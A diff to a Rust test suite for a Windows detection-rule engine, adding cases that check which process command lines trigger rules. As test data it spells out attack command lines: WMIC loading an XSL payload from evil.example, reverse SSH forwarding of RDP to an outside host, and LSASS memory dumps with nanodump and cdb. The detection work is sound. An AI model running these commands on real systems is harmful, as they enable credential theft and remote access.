@@ -687,7 +687,7 @@ fn persistence_evasion_and_proxy_execution_command_lines_are_caught_and_admin_wo
     );
 
     let fwd = "SSH Client Forwards A Port Through A Tunnel";
-    let rdp = "SSH Client Tunnels RDP Through A Port Forward";
+    let rdp = "SSH Client Exposes RDP Through A Reverse Port Forward";
     let plink = "C:\\Users\\bob\\AppData\\Local\\Temp\\plink.exe";
     let got = proc(
         &set,
@@ -904,7 +904,6 @@ fn domain_discovery_and_web_server_recon_are_caught_and_local_lookups_are_not() 
     let web = "Web Server Or Application Server Process Starts A Shell";
     let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
     for child in [
-        "C:\\Windows\\System32\\tasklist.exe",
         "C:\\Windows\\System32\\quser.exe",
         "C:\\Windows\\System32\\whoami.exe",
     ] {
@@ -1049,5 +1048,436 @@ fn remote_execution_services_get_their_own_rules_and_installed_services_do_not()
         for t in [psexec, stub, smbexec, pipe] {
             lacks(&got, t, name);
         }
+    }
+}
+
+/// The loaded rule with this title (level and tags are checked, not only matches).
+#[track_caller]
+fn rule<'a>(set: &'a RuleSet, title: &str) -> &'a RuleInfo {
+    set.rules()
+        .find(|r| r.title == title)
+        .unwrap_or_else(|| panic!("no rule titled {title:?}"))
+}
+
+#[test]
+fn wmic_stylesheet_counts_as_built_in_only_when_the_format_argument_is_in_wbem() {
+    let set = RuleSet::embedded();
+    let xsl = "WMIC Output Formatted With A Remote Or Non-Built-In XSL Stylesheet";
+    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
+    for cmd in [
+        "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" os get /format:\"https://evil.example/payload.xsl\"",
+        "C:\\Windows\\System32\\wbem\\wmic.exe process list /format:C:\\Users\\Public\\evil.xsl",
+        "wmic os get /format:\"\\\\203.0.113.9\\share\\wbem\\x.xsl\"",
+    ] {
+        has(&proc(&set, wmic, cmd, EXPLORER, "explorer.exe"), xsl, cmd);
+    }
+    for cmd in [
+        "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /node:srv01 os get /format:csv",
+        "wmic qfe list /format:\"C:\\Windows\\System32\\wbem\\en-US\\htable.xsl\"",
+        "C:\\Windows\\System32\\wbem\\WMIC.exe process list brief /format:%SystemRoot%\\System32\\wbem\\csv.xsl",
+    ] {
+        lacks(&proc(&set, wmic, cmd, CMD, "cmd.exe"), xsl, cmd);
+    }
+}
+
+#[test]
+fn explorer_com_server_children_are_low_and_core_process_rules_are_tagged_by_what_they_see() {
+    let set = RuleSet::embedded();
+    let explorer = "Explorer Started As A COM Server Spawns A Shell Or Script Host";
+    let factory =
+        "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding";
+    has(
+        &proc(
+            &set,
+            CMD,
+            "\"C:\\Windows\\system32\\cmd.exe\"",
+            EXPLORER,
+            factory,
+        ),
+        explorer,
+        "cmd from a separate folder window",
+    );
+    assert_eq!(rule(&set, explorer).level.as_deref(), Some("low"));
+
+    let core = "Core System Process Is The Parent Of A Shell Or LOLBin";
+    let spoolsv = "C:\\Windows\\System32\\spoolsv.exe";
+    let rundll = "C:\\Windows\\System32\\rundll32.exe";
+    for (image, cmd) in [
+        (
+            rundll,
+            "rundll32.exe C:\\Windows\\system32\\spool\\DRIVERS\\x64\\3\\HPMPW081.DLL,MonitorPrintJobStatus /pjob=2",
+        ),
+        (
+            CMD,
+            "cmd.exe /c \"C:\\Program Files\\gs\\gs10.02.1\\bin\\gswin64c.exe\" -sDEVICE=pdfwrite -o out.pdf C:\\Windows\\System32\\spool\\PRINTERS\\00012.SPL",
+        ),
+        (
+            "C:\\Windows\\System32\\net.exe",
+            "net start \"Print Monitor Helper\"",
+        ),
+    ] {
+        lacks(&proc(&set, image, cmd, spoolsv, "spoolsv.exe"), core, cmd);
+    }
+    for (image, cmd) in [
+        (rundll, "rundll32.exe"),
+        (rundll, "rundll32.exe C:\\Users\\Public\\p.dll,Start"),
+        (CMD, "cmd.exe /c whoami > C:\\Users\\Public\\o.txt"),
+        (PS, "powershell -nop -enc SQBFAFgA"),
+    ] {
+        has(&proc(&set, image, cmd, spoolsv, "spoolsv.exe"), core, cmd);
+    }
+    let tags = &rule(&set, core).tags;
+    assert!(tags.iter().any(|t| t == "attack.t1059"), "{tags:?}");
+    assert!(
+        !tags
+            .iter()
+            .any(|t| t == "attack.t1134.004" || t == "attack.t1055"),
+        "{tags:?}"
+    );
+    let winlogon = "Winlogon Is The Parent Of A Shell Or Script Host";
+    let tags = &rule(&set, winlogon).tags;
+    assert!(tags.iter().any(|t| t == "attack.t1546.008"), "{tags:?}");
+    assert!(
+        !tags
+            .iter()
+            .any(|t| t == "attack.t1134.004" || t == "attack.t1055"),
+        "{tags:?}"
+    );
+}
+
+#[test]
+fn ssh_forwards_are_read_through_flag_clusters_and_only_reverse_rdp_is_high() {
+    let set = RuleSet::embedded();
+    let fwd = "SSH Client Forwards A Port Through A Tunnel";
+    let rdp = "SSH Client Exposes RDP Through A Reverse Port Forward";
+    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
+    let got = proc(
+        &set,
+        ssh,
+        "ssh.exe -NR 2222:127.0.0.1:3389 user@203.0.113.5",
+        EXPLORER,
+        "explorer.exe",
+    );
+    has(&got, rdp, "-NR to RDP");
+    lacks(&got, fwd, "-NR to RDP");
+    for cmd in [
+        "ssh -fNL 8080:10.0.0.5:80 user@bastion",
+        "ssh -NR 9000:127.0.0.1:445 user@203.0.113.5",
+        "ssh -o \"RemoteForward 2222 127.0.0.1:22\" user@203.0.113.5",
+        "ssh.exe -L 13389:app-srv01.corp.local:3389 alice@bastion.corp.local",
+    ] {
+        let got = proc(&set, ssh, cmd, PS, "powershell.exe");
+        has(&got, fwd, cmd);
+        lacks(&got, rdp, cmd);
+    }
+    for cmd in [
+        "ssh -i C:\\Users\\dev\\.ssh\\id_ed25519 -l deploy1 build01.corp.local",
+        "ssh.exe -l admin01 -p 22 jump.corp.local",
+        "ssh -vvv -o ConnectTimeout=10 git@github.com",
+    ] {
+        let got = proc(&set, ssh, cmd, PS, "powershell.exe");
+        lacks(&got, fwd, cmd);
+        lacks(&got, rdp, cmd);
+    }
+    let tags = &rule(&set, rdp).tags;
+    assert!(!tags.iter().any(|t| t == "attack.t1021.001"), "{tags:?}");
+}
+
+#[test]
+fn dump_and_build_rules_read_whole_options_and_leave_ci_and_debuggers_alone() {
+    let set = RuleSet::embedded();
+    let msbuild = "MSBuild Builds A Project From A Public, Temporary Or Shared-Data Folder";
+    let msb = "C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\MSBuild.exe";
+    lacks(
+        &proc(
+            &set,
+            msb,
+            "MSBuild.exe C:\\ProgramData\\Jenkins\\.jenkins\\workspace\\app\\App.sln /p:Configuration=Release",
+            CMD,
+            "cmd /c call C:\\Windows\\TEMP\\jenkins123.bat",
+        ),
+        msbuild,
+        "jenkins workspace",
+    );
+    lacks(
+        &proc(
+            &set,
+            msb,
+            "MSBuild.exe C:\\ProgramData\\agent\\_work\\3\\s\\Svc.csproj",
+            "C:\\ProgramData\\agent\\bin\\Agent.Worker.exe",
+            "Agent.Worker.exe spawnclient 3860 3864",
+        ),
+        msbuild,
+        "azure pipelines agent",
+    );
+    has(
+        &proc(
+            &set,
+            msb,
+            "MSBuild.exe C:\\ProgramData\\x\\build.xml",
+            CMD,
+            "cmd.exe /c C:\\Users\\Public\\run.bat",
+        ),
+        msbuild,
+        "inline-task project in ProgramData",
+    );
+
+    let nano = "Nanodump-Style LSASS Dump Options On A Command Line";
+    let nd = "C:\\Users\\Public\\nd.exe";
+    for cmd in [
+        "nd.exe -w C:\\Windows\\Temp\\x.dmp -v -f",
+        "nd.exe -w C:\\Windows\\Temp\\doc.docx -sll",
+        "nd.exe --write C:\\Windows\\Temp\\x.dmp --valid --fork",
+    ] {
+        has(&proc(&set, nd, cmd, CMD, "cmd.exe"), nano, cmd);
+    }
+    for (image, cmd) in [
+        (
+            PS,
+            "powershell.exe -w hidden -File C:\\scripts\\check.ps1 --validate-only",
+        ),
+        (
+            "C:\\Program Files\\Wireshark\\tshark.exe",
+            "tshark.exe -i 1 -w C:\\captures\\web.pcapng -f \"port 443\"",
+        ),
+    ] {
+        lacks(&proc(&set, image, cmd, CMD, "cmd.exe"), nano, cmd);
+    }
+
+    let named = "Command Line Names LSASS And A Memory Dump File";
+    lacks(
+        &proc(
+            &set,
+            "C:\\Program Files (x86)\\Windows Kits\\10\\Debuggers\\x64\\windbg.exe",
+            "windbg.exe -z C:\\cases\\IR-2231\\lsass.dmp",
+            EXPLORER,
+            "explorer.exe",
+        ),
+        named,
+        "windbg opens a dump",
+    );
+    has(
+        &proc(
+            &set,
+            "C:\\Users\\Public\\cdb.exe",
+            "cdb.exe -pn lsass.exe -c \".dump /ma C:\\Users\\Public\\l.dmp;q\"",
+            CMD,
+            "cmd.exe",
+        ),
+        named,
+        "cdb writes a dump of lsass",
+    );
+
+    let dev = "Full Memory Dump Written By A .NET Or Visual Studio Dump Utility Run By Hand";
+    let cd = "C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\6.0.0\\createdump.exe";
+    for cmd in [
+        "createdump.exe -h 672",
+        "createdump.exe --full -f C:\\t\\x.dmp 672",
+    ] {
+        has(&proc(&set, cd, cmd, CMD, "cmd.exe"), dev, cmd);
+    }
+    for cmd in [
+        "createdump.exe -n -f C:\\temp\\x.dmp 672",
+        "createdump.exe --triage -f C:\\temp\\app.dmp 672",
+    ] {
+        lacks(&proc(&set, cd, cmd, CMD, "cmd.exe"), dev, cmd);
+    }
+    // Tools that dump any process ID are credential dumping, not LSASS by themselves.
+    for title in [
+        dev,
+        "Process Memory Dumped With The Windows RdrLeakDiag Tool",
+        "Full Process Memory Dump Requested From SQLDumper Outside SQL Server",
+    ] {
+        let tags = &rule(&set, title).tags;
+        assert!(
+            tags.iter().any(|t| t == "attack.t1003"),
+            "{title}: {tags:?}"
+        );
+        assert!(
+            !tags.iter().any(|t| t == "attack.t1003.001"),
+            "{title}: {tags:?}"
+        );
+    }
+}
+
+#[test]
+fn short_switches_relative_paths_renamed_tools_and_app_health_checks_are_handled() {
+    let set = RuleSet::embedded();
+    let net = "C:\\Windows\\System32\\net.exe";
+    has(
+        &proc(&set, net, "net user /dom", EXPLORER, "explorer.exe"),
+        "Domain User Accounts Listed With Net",
+        "net user /dom",
+    );
+    has(
+        &proc(
+            &set,
+            net,
+            "net group \"domain admins\" /dom",
+            EXPLORER,
+            "explorer.exe",
+        ),
+        "Domain Groups Or Privileged Group Members Listed With Net",
+        "net group /dom",
+    );
+    lacks(
+        &proc(
+            &set,
+            net,
+            "net localgroup administrators",
+            EXPLORER,
+            "explorer.exe",
+        ),
+        "Domain Groups Or Privileged Group Members Listed With Net",
+        "local group",
+    );
+
+    let attrib = "Executable Or Script In A User-Writable Folder Hidden With Attrib";
+    let at = |cmd: &str, cwd: &str| {
+        titles(
+            &set,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            &json!({"Image": "C:\\Windows\\System32\\attrib.exe", "OriginalFileName": "ATTRIB.EXE",
+                   "CommandLine": cmd, "CurrentDirectory": cwd, "ParentImage": CMD,
+                   "ParentCommandLine": "cmd.exe", "User": "EXAMPLE\\bob"}),
+        )
+    };
+    has(
+        &at(
+            "attrib +h +s payload.exe",
+            "C:\\Users\\alice\\AppData\\Roaming\\svc\\",
+        ),
+        attrib,
+        "relative payload in a profile folder",
+    );
+    lacks(
+        &at("attrib +h +s payload.exe", "C:\\Tools\\build\\"),
+        attrib,
+        "relative file in a tools folder",
+    );
+    lacks(
+        &at(
+            "attrib +h +s C:\\Tools\\build\\helper.exe",
+            "C:\\Users\\alice\\",
+        ),
+        attrib,
+        "absolute path outside user folders",
+    );
+
+    let netsh = "Netsh Helper DLL Registered From The Command Line";
+    let nsh = "C:\\Windows\\System32\\netsh.exe";
+    lacks(
+        &proc(
+            &set,
+            nsh,
+            "netsh add helper ifmon.dll",
+            EXPLORER,
+            "explorer.exe",
+        ),
+        netsh,
+        "built-in helper by name",
+    );
+    lacks(
+        &proc(
+            &set,
+            nsh,
+            "netsh add helper C:\\Windows\\System32\\rasmontr.dll",
+            EXPLORER,
+            "explorer.exe",
+        ),
+        netsh,
+        "built-in helper from System32",
+    );
+    for cmd in [
+        "netsh add helper C:\\Users\\Public\\NetshHelper.dll",
+        "netsh add helper payload.dll",
+    ] {
+        has(&proc(&set, nsh, cmd, EXPLORER, "explorer.exe"), netsh, cmd);
+    }
+
+    let uninstall = "Sysmon Uninstalled From The Command Line";
+    let sysmon = |image: &str, ofn: &str, descr: &str, cmd: &str| {
+        titles(
+            &set,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            &json!({"Image": image, "OriginalFileName": ofn, "Description": descr,
+                   "CommandLine": cmd, "ParentImage": CMD, "ParentCommandLine": "cmd.exe"}),
+        )
+    };
+    has(
+        &sysmon(
+            "C:\\Windows\\Temp\\m.exe",
+            "Sysmon.exe",
+            "System activity monitor",
+            "m.exe -u force",
+        ),
+        uninstall,
+        "renamed sysmon",
+    );
+    has(
+        &sysmon(
+            "C:\\Windows\\Temp\\m.exe",
+            "-",
+            "System activity monitor",
+            "m.exe -u",
+        ),
+        uninstall,
+        "renamed sysmon, description only",
+    );
+    lacks(
+        &sysmon(
+            "C:\\Windows\\Sysmon64.exe",
+            "Sysmon.exe",
+            "System activity monitor",
+            "Sysmon64.exe -c C:\\cfg\\sysmon.xml",
+        ),
+        uninstall,
+        "config update",
+    );
+
+    let web = "Web Server Or Application Server Process Starts A Shell";
+    let health =
+        "Web Server Or Application Server Process Runs A Process, Service Or Registry Query Tool";
+    let tomcat = "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe";
+    let got = proc(
+        &set,
+        "C:\\Windows\\System32\\tasklist.exe",
+        "tasklist /FI \"IMAGENAME eq java.exe\"",
+        tomcat,
+        "tomcat9.exe //RS//Tomcat9",
+    );
+    has(&got, health, "tomcat tasklist");
+    lacks(&got, web, "tomcat tasklist");
+    assert_eq!(rule(&set, health).level.as_deref(), Some("medium"));
+    let got = proc(
+        &set,
+        "C:\\Windows\\System32\\whoami.exe",
+        "whoami /all",
+        tomcat,
+        "tomcat9.exe //RS//Tomcat9",
+    );
+    has(&got, web, "tomcat whoami");
+    lacks(&got, health, "tomcat whoami");
+}
+
+#[test]
+fn psexec_family_stubs_leave_the_high_rule_only_when_name_and_program_agree() {
+    let set = RuleSet::embedded();
+    let stub = "Service Installed From A Temporary Or User Folder Or As A Randomly Named Windows-Folder Stub";
+    for (name, path) in [
+        ("PSEXESVC", "%SystemRoot%\\xkqz.exe"),
+        ("RemComSvc", "%SystemRoot%\\qwhe.exe"),
+    ] {
+        has(&service(&set, name, path), stub, name);
+    }
+    for (name, path) in [
+        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
+        ("PAExec-4324-WS01", "%SystemRoot%\\PAExec-4324-WS01.exe"),
+    ] {
+        lacks(&service(&set, name, path), stub, name);
     }
 }
